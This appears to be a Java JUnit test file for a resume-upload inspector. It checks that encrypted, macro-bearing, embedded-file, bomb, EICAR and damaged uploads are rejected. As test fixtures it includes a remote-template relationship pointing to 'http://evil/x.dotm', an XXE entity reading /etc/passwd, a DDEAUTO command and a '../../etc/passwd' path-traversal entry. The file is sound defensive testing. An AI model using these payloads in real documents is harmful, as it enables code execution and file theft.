package io.skillsync.careerforge.resume.adapter.out.inspection;

import static io.skillsync.careerforge.resume.adapter.out.inspection.HostileFiles.docx;
import static io.skillsync.careerforge.resume.adapter.out.inspection.HostileFiles.pdf;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.skillsync.careerforge.resume.FileFault;
import io.skillsync.careerforge.resume.MediaType;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Map;
import org.junit.jupiter.api.Test;

class ProbeTest {
    private final Probe probe = new Probe();

    @Test
    void honest_files_of_all_four_kinds_pass() throws Exception {
        assertThat(probe.look(pdf(2))).isEqualTo(new Probe.Found(MediaType.PDF, 2));
        assertThat(probe.look(docx())).isEqualTo(new Probe.Found(MediaType.DOCX, 0));
        assertThat(probe.look(HostileFiles.html())).isEqualTo(new Probe.Found(MediaType.HTML, 0));
        assertThat(probe.look(HostileFiles.text())).isEqualTo(new Probe.Found(MediaType.TEXT, 0));
    }

    @Test
    void text_that_starts_like_a_letter_is_still_text() throws Exception {
        var letter = "From: Ada Byron\nSubject: My resume\n\nI calculate.\n";
        assertThat(probe.look(letter.getBytes(StandardCharsets.UTF_8)).type())
                .isEqualTo(MediaType.TEXT);
        assertThat(probe.look("Ada Byron".getBytes(StandardCharsets.UTF_16)).type())
                .isEqualTo(MediaType.TEXT);
    }

    @Test
    void other_kinds_of_file_are_of_the_wrong_type() throws Exception {
        assertThat(fault(HostileFiles.png())).isEqualTo(FileFault.WRONG_TYPE);
        assertThat(fault(HostileFiles.oldWord())).isEqualTo(FileFault.WRONG_TYPE);
        assertThat(fault("{\\rtf1 Ada}".getBytes(StandardCharsets.US_ASCII)))
                .isEqualTo(FileFault.WRONG_TYPE);
        assertThat(fault("<?xml version=\"1.0\"?><a/>".getBytes(StandardCharsets.US_ASCII)))
                .isEqualTo(FileFault.WRONG_TYPE);
        assertThat(fault(HostileFiles.zip(Map.of("resume.docx", docx()))))
                .as("an archive of a resume")
                .isIn(FileFault.WRONG_TYPE, FileFault.ATTACHMENTS);
        assertThat(fault(HostileFiles.zip(Map.of("a.txt", new byte[] {1}))))
                .isEqualTo(FileFault.WRONG_TYPE);
    }

    @Test
    void a_hundred_pages_are_enough() throws Exception {
        assertThat(probe.look(pdf(100)).pages()).isEqualTo(100);
        assertThat(fault(pdf(101))).isEqualTo(FileFault.TOO_MANY_PAGES);
        assertThat(fault(pdf(2_000))).isEqualTo(FileFault.TOO_MANY_PAGES);
        var told = "<Properties><Pages>101</Pages></Properties>".getBytes(StandardCharsets.UTF_8);
        assertThat(fault(docx(Map.of("docProps/app.xml", told))))
                .isEqualTo(FileFault.TOO_MANY_PAGES);
    }

    @Test
    void protected_files_are_refused_whatever_their_password() throws Exception {
        assertThat(fault(HostileFiles.encryptedPdf("secret"))).isEqualTo(FileFault.ENCRYPTED);
        assertThat(fault(HostileFiles.encryptedPdf(""))).isEqualTo(FileFault.ENCRYPTED);
        assertThat(fault(HostileFiles.encryptedDocx())).isEqualTo(FileFault.ENCRYPTED);
    }

    @Test
    void what_starts_by_itself_in_a_pdf_is_refused() {
        assertThat(fault(HostileFiles.pdfWithScript())).isEqualTo(FileFault.ACTIVE_CONTENT);
        assertThat(fault(HostileFiles.pdfWithLaunch())).isEqualTo(FileFault.ACTIVE_CONTENT);
    }

    @Test
    void files_within_files_are_refused() throws Exception {
        assertThat(fault(HostileFiles.pdfWithFile())).isEqualTo(FileFault.ATTACHMENTS);
        assertThat(fault(HostileFiles.pdfWithArchive())).isEqualTo(FileFault.ATTACHMENTS);
        assertThat(fault(docx(Map.of("word/media/image1.png", docx()))))
                .isEqualTo(FileFault.ATTACHMENTS);
        assertThat(fault(docx(Map.of("word/embeddings/x.bin", new byte[10]))))
                .isEqualTo(FileFault.ATTACHMENTS);
    }

    @Test
    void macros_are_refused() throws Exception {
        assertThat(fault(docx(Map.of("word/vbaProject.bin", new byte[10]))))
                .isEqualTo(FileFault.MACROS);
        assertThat(fault(HostileFiles.docm())).isEqualTo(FileFault.MACROS);
    }

    @Test
    void remote_templates_programs_and_entities_are_refused() throws Exception {
        var template =
                "<Relationships><Relationship Id=\"r1\" Type=\"http://x/attachedTemplate\""
                        + " Target=\"http://evil/x.dotm\" TargetMode=\"External\"/></Relationships>";
        assertThat(fault(docx(Map.of("word/_rels/settings.xml.rels", utf8(template)))))
                .isEqualTo(FileFault.ACTIVE_CONTENT);
        var entity = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
        assertThat(fault(docx(Map.of("word/styles.xml", utf8(entity)))))
                .isEqualTo(FileFault.ACTIVE_CONTENT);
        var dde = "<w:document><w:instrText>DDEAUTO c:\\\\x.exe</w:instrText></w:document>";
        assertThat(fault(docx(Map.of("word/document.xml", utf8(dde)))))
                .isEqualTo(FileFault.ACTIVE_CONTENT);
    }

    @Test
    void an_honest_link_is_no_remote_template() throws Exception {
        var link =
                "<Relationships><Relationship Id=\"r1\" Type=\"http://x/hyperlink\""
                        + " Target=\"https://ada.example\" TargetMode=\"External\"/></Relationships>";
        assertThat(probe.look(docx(Map.of("word/_rels/document.xml.rels", utf8(link)))).type())
                .isEqualTo(MediaType.DOCX);
    }

    @Test
    void what_grows_out_of_proportion_is_refused() throws Exception {
        assertThat(fault(docx(Map.of("word/media/x.bin", new byte[30_000_000]))))
                .isEqualTo(FileFault.BOMB);
        assertThat(fault(HostileFiles.pdfBomb())).isEqualTo(FileFault.BOMB);
    }

    @Test
    void the_scanners_test_file_is_refused_wherever_it_stands() {
        assertThat(fault(HostileFiles.eicar())).isEqualTo(FileFault.MALWARE);
    }

    @Test
    void damaged_files_are_refused() throws Exception {
        assertThat(fault(utf8("%PDF-1.7\nnothing follows"))).isEqualTo(FileFault.BROKEN);
        var half = pdf(3);
        assertThat(fault(Arrays.copyOf(half, 200))).isEqualTo(FileFault.BROKEN);
        assertThat(fault(docx(Map.of("../../etc/passwd", new byte[1]))))
                .isEqualTo(FileFault.BROKEN);
        var cut = docx();
        assertThat(fault(Arrays.copyOf(cut, cut.length / 2))).isEqualTo(FileFault.BROKEN);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private FileFault fault(byte[] content) {
        return catchThrowableOfType(Probe.Fault.class, () -> probe.look(content)).fault();
    }
}
